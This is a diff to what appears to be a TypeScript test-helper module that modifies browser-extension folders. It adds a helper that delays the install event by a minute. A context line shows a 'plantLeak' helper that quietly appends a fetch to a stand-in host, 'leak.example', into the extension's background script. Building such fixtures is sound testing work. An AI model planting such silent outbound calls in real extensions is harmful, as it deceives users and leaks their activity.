@@ -133,6 +133,16 @@ export async function plantLeak(folder: string, address = 'https://leak.example/
   await appendFile(join(folder, await backgroundFile(folder)), `\nfetch('${address}').catch(() => {});\n`);
 }
 
+/** Lets the background answer the first event that it gets, that of its installation, only after a minute. */
+export async function keepAtWork(folder: string): Promise<void> {
+  const file = join(folder, await backgroundFile(folder));
+  await appendFile(file, AT_WORK);
+}
+
+const AT_WORK = `
+(globalThis.browser ?? chrome).runtime.onInstalled.addListener(() => new Promise((done) => setTimeout(done, 60_000)));
+`;
+
 /** Makes the popup keep every state it goes through, from its first moment, in `window.statesSeen`. */
 export async function recordStates(folder: string): Promise<void> {
   const popup = join(folder, (await manifestOf(folder)).action.default_popup);
